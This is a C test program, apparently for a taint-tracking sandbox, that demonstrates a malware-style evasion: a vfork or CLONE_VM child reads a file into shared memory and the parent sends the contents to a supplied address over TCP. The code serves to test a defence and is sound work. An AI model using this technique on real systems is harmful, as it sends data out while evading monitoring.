/* TEST ONLY (e2e scenario 28, issue 14): two processes that share one address space without
 * being threads of one process, as malware would use them to pass a file's content on with
 * no file, pipe or socket between them.
 *   taint-sharedvm vfork FILE ADDR PORT
 *     a vfork() child reads FILE into the parent's memory and exits; the parent (never
 *     reading FILE itself) then sends what is there to ADDR:PORT.
 *   taint-sharedvm clone FILE ADDR PORT
 *     a clone(CLONE_VM) child, started first, waits until the parent says go, reads FILE
 *     into the shared memory and says done; the parent, running all along, sends it.
 * Exit status: 0 sent, 1 the connect or send was refused (EPERM), 2 usage, 3 another
 * error. Prints nothing of FILE (a shell that read it would take its taint). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char buf[256];
static volatile int go, done;
static const char *path;

static void
read_into_buf(void)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd >= 0) {
		ssize_t n = read(fd, buf, sizeof buf - 1);

		if (n > 0)
			buf[n] = '\0';
		close(fd);
	}
}

static int
child(void *arg)
{
	(void)arg;
	while (!go)
		usleep(1000);
	read_into_buf();
	done = 1;
	return 0;
}

static int
send_buf(const char *addr, const char *port)
{
	struct sockaddr_in sa;
	char msg[512];
	int s, n;

	if (buf[0] == '\0')
		return 3;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)atoi(port));
	if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
		return 2;
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return errno == EPERM ? 1 : 3;
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0)
		return errno == EPERM ? 1 : 3;
	n = snprintf(msg, sizeof msg, "PUT /up HTTP/1.0\r\nContent-Length: %zu\r\n\r\n%s",
	             strlen(buf), buf);
	if (send(s, msg, (size_t)n, MSG_NOSIGNAL) != n)
		return errno == EPERM ? 1 : 3;
	close(s);
	return 0;
}

int
main(int argc, char **argv)
{
	static char stack[64 * 1024] __attribute__((aligned(16)));
	pid_t pid;
	int i;

	if (argc != 5)
		return 2;
	path = argv[2];
	if (strcmp(argv[1], "vfork") == 0) {
		pid = vfork();
		if (pid == 0) {
			read_into_buf();
			_exit(0);
		}
		if (pid < 0)
			return 3;
		waitpid(pid, NULL, 0);
	} else if (strcmp(argv[1], "clone") == 0) {
		pid = clone(child, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
		if (pid < 0)
			return 3;
		go = 1;
		for (i = 0; i < 10000 && !done; i++)
			usleep(1000);
		/* the child stays until the send is decided: its mark must reach the parent
		 * while both are alive */
		i = send_buf(argv[3], argv[4]);
		waitpid(pid, NULL, 0);
		return i;
	} else {
		return 2;
	}
	return send_buf(argv[3], argv[4]);
}
